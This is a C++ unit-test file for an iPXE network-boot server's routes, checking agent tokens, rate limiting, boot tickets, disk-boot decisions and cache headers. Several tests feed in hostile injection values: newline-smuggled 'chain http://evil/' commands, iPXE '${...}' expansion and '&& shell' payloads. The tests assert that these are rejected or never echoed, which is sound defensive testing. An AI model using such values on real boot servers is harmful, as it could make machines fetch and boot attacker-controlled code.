#include "ipxe/ipxe_routes.hpp"

#include <gtest/gtest.h>

namespace ironboot {
namespace {

class FixedPolicy : public BootPolicy {
 public:
  explicit FixedPolicy(BootDecision d) : d_(std::move(d)) {}
  BootDecision decide(const BootQuery& q) const override {
    last = q;
    return d_;
  }
  mutable BootQuery last;

 private:
  BootDecision d_;
};

class FakeTokens : public BootTokenIssuer {
 public:
  BootTokenIssue issue(const BootQuery& q) override {
    calls.push_back(q.uuid + "/" + q.mac + "/" + q.peer_address);
    return BootTokenIssue{token, rate_limited};
  }
  std::string kernel_ticket(const BootQuery& q, const std::string& environment) override {
    tickets.push_back(q.uuid + "/" + environment + "/" + q.peer_address);
    return ticket;
  }
  std::string token = "tok.en-1";
  std::string ticket = "k2.tick.et";
  bool rate_limited = false;
  std::vector<std::string> calls, tickets;
};

ScriptSet scripts() {
  std::string err;
  return *ScriptSet::load(err);
}

IpxeSettings settings() {
  IpxeSettings s;
  s.base_url = "http://10.9.0.2:8080";
  s.agent_configured = true;
  s.agent_args = {"ironboot.debug=1"};
  return s;
}

http::Request ipxe_request(std::string query) {
  http::Request r;
  r.method = "GET";
  r.path = "/ipxe";
  r.query = std::move(query);
  r.peer = "10.9.0.50:1234";
  return r;
}

const char* kQuery = "uuid=4c4c4544-0033-4410-8047-b4c04f4d4d31&mac=52-54-00-12-34-56&arch=x86_64&platform=efi";

TEST(IpxeRoutes, AgentForEveryoneWithoutIssuerHasNoToken) {
  AgentForEveryonePolicy policy;
  IpxeRoutes routes(scripts(), settings(), policy, nullptr);
  auto res = routes.ipxe(ipxe_request(kQuery));
  ASSERT_EQ(res.status, 200) << res.body;
  EXPECT_NE(res.body.find("kernel http://10.9.0.2:8080/assets/agent/vmlinuz initrd=initramfs "
                          "ironboot.endpoint=http://10.9.0.2:8080 console=tty0 console=ttyS0,115200n8 "
                          "ironboot.debug=1 || goto failed"),
            std::string::npos)
      << res.body;
  EXPECT_NE(res.body.find("initrd http://10.9.0.2:8080/assets/agent/initramfs"), std::string::npos);
  EXPECT_EQ(res.body.find("ironboot.token"), std::string::npos);
}

TEST(IpxeRoutes, IssuerTokenIsOnTheCommandLine) {
  AgentForEveryonePolicy policy;
  FakeTokens tokens;
  auto s = settings();
  s.agent_args = {"console=ttyS1"};
  IpxeRoutes routes(scripts(), s, policy, &tokens);
  auto res = routes.ipxe(ipxe_request(kQuery));
  ASSERT_EQ(res.status, 200);
  EXPECT_NE(res.body.find("ironboot.endpoint=http://10.9.0.2:8080 ironboot.token=tok.en-1 console=ttyS1 ||"),
            std::string::npos)
      << res.body;
  ASSERT_EQ(tokens.calls.size(), 1u);
  EXPECT_EQ(tokens.calls[0], "4c4c4544-0033-4410-8047-b4c04f4d4d31/52:54:00:12:34:56/10.9.0.50")
      << "bound to the TCP peer's address";
  tokens.token = "bad token\nshell";
  EXPECT_EQ(routes.ipxe(ipxe_request(kQuery)).status, 500);
}

TEST(IpxeRoutes, OverTheMintLimitTheScriptWaitsAndStartsOver) {
  AgentForEveryonePolicy policy;
  FakeTokens tokens;
  tokens.rate_limited = true;
  IpxeRoutes routes(scripts(), settings(), policy, &tokens);
  auto res = routes.ipxe(ipxe_request(kQuery));
  ASSERT_EQ(res.status, 200);
  EXPECT_EQ(res.body.find("ironboot.token"), std::string::npos) << res.body;
  EXPECT_EQ(res.body.find("kernel "), std::string::npos) << res.body;
  EXPECT_NE(res.body.find("sleep 20\nchain --replace --autofree http://10.9.0.2:8080/boot.ipxe\n"), std::string::npos)
      << res.body;
}

TEST(IpxeRoutes, AnEnvironmentKernelUrlCarriesTheBootsTicket) {
  FixedPolicy env(BootDecision::boot_environment(
      {"/assets/environments/talos/kernel", "/assets/environments/talos/initrd", {"talos.platform=metal"}}, "talos"));
  FakeTokens tokens;
  auto res = IpxeRoutes(scripts(), settings(), env, &tokens).ipxe(ipxe_request(kQuery));
  ASSERT_EQ(res.status, 200) << res.body;
  EXPECT_NE(res.body.find("kernel http://10.9.0.2:8080/assets/environments/talos/kernel?ticket=k2.tick.et "
                          "initrd=initrd talos.platform=metal"),
            std::string::npos)
      << res.body;
  EXPECT_NE(res.body.find("initrd http://10.9.0.2:8080/assets/environments/talos/initrd ||"), std::string::npos)
      << "only the kernel fetch records the boot: " << res.body;
  ASSERT_EQ(tokens.tickets.size(), 1u);
  EXPECT_EQ(tokens.tickets[0], "4c4c4544-0033-4410-8047-b4c04f4d4d31/talos/10.9.0.50");
  EXPECT_TRUE(tokens.calls.empty()) << "no agent token for an Environment boot";
  // A URL that is not ironboot's copy gets no ticket; an unsafe ticket is left off.
  FixedPolicy remote(BootDecision::boot_environment({"http://mirror/k", "http://mirror/i", {}}, "remote"));
  auto r = IpxeRoutes(scripts(), settings(), remote, &tokens).ipxe(ipxe_request(kQuery));
  EXPECT_NE(r.body.find("kernel http://mirror/k "), std::string::npos) << r.body;
  tokens.ticket = "k2 evil";
  auto unsafe = IpxeRoutes(scripts(), settings(), env, &tokens).ipxe(ipxe_request(kQuery));
  EXPECT_EQ(unsafe.body.find("evil"), std::string::npos) << unsafe.body;
}

TEST(IpxeRoutes, PolicyDecisions) {
  FixedPolicy disk(BootDecision::boot_from_disk(DiskBootMethod::ipxe_exit));
  IpxeRoutes r1(scripts(), settings(), disk, nullptr);
  auto res = r1.ipxe(ipxe_request(kQuery));
  EXPECT_EQ(res.status, 200);
  EXPECT_NE(res.body.find("\nexit\n"), std::string::npos);
  EXPECT_EQ(disk.last.mac, "52:54:00:12:34:56");
  EXPECT_EQ(disk.last.platform, "efi");

  FixedPolicy http404(BootDecision::boot_from_disk(DiskBootMethod::http_404));
  EXPECT_EQ(IpxeRoutes(scripts(), settings(), http404, nullptr).ipxe(ipxe_request(kQuery)).status, 404);

  FixedPolicy env(BootDecision::boot_environment({"/assets/env/k", "/assets/env/i", {"talos.platform=metal"}}));
  auto e = IpxeRoutes(scripts(), settings(), env, nullptr).ipxe(ipxe_request(kQuery));
  EXPECT_EQ(e.status, 200);
  EXPECT_NE(e.body.find("kernel http://10.9.0.2:8080/assets/env/k initrd=i talos.platform=metal"), std::string::npos);
  EXPECT_EQ(e.body.find("ironboot.endpoint"), std::string::npos);

  FixedPolicy evil(BootDecision::boot_environment({"/k", "/i", {"x\nchain http://evil/"}}));
  auto bad = IpxeRoutes(scripts(), settings(), evil, nullptr).ipxe(ipxe_request(kQuery));
  EXPECT_EQ(bad.status, 500);
  EXPECT_EQ(bad.body.find("evil"), std::string::npos);
}

TEST(IpxeRoutes, HostileQueriesAreRefusedAndNotEchoed) {
  AgentForEveryonePolicy policy;
  IpxeRoutes routes(scripts(), settings(), policy, nullptr);
  const std::vector<std::string> hostile = {
      "uuid=x%0Achain%20http://evil/&mac=52:54:00:12:34:56&arch=x86_64",
      "uuid=4c4c4544-0033-4410-8047-b4c04f4d4d31&mac=${net0/mac}&arch=x86_64",
      "uuid=4c4c4544-0033-4410-8047-b4c04f4d4d31&mac=52:54:00:12:34:56&arch=x86_64%20evil",
      "uuid=4c4c4544-0033-4410-8047-b4c04f4d4d31&mac=52:54:00:12:34:56&arch=x86_64&serial=%0Aevil",
  };
  for (const auto& q : hostile) {
    auto res = routes.ipxe(ipxe_request(q));
    EXPECT_EQ(res.status, 400) << q;
    EXPECT_EQ(res.body.find("evil"), std::string::npos) << res.body;
    EXPECT_EQ(res.body.find("${"), std::string::npos) << res.body;
  }
  // Accepted free text is passed to the policy but never rendered.
  auto ok = routes.ipxe(ipxe_request(std::string(kQuery) + "&product=%24%7Bevil%7D%20%26%26%20shell"));
  EXPECT_EQ(ok.status, 200);
  EXPECT_EQ(ok.body.find("evil"), std::string::npos);
}

TEST(IpxeRoutes, AgentNotConfiguredIs503) {
  AgentForEveryonePolicy policy;
  auto s = settings();
  s.agent_configured = false;
  EXPECT_EQ(IpxeRoutes(scripts(), s, policy, nullptr).ipxe(ipxe_request(kQuery)).status, 503);
}

TEST(IpxeRoutes, BootScriptIsNotCached) {
  AgentForEveryonePolicy policy;
  IpxeRoutes routes(scripts(), settings(), policy, nullptr);
  http::Request r;
  auto res = routes.boot_script(r);
  EXPECT_EQ(res.status, 200);
  bool no_store = false;
  for (const auto& h : res.headers) no_store = no_store || (h.name == "Cache-Control" && h.value == "no-store");
  EXPECT_TRUE(no_store);
  EXPECT_NE(res.body.find("chain --replace http://10.9.0.2:8080/ipxe?"), std::string::npos);
}

}  // namespace
}  // namespace ironboot
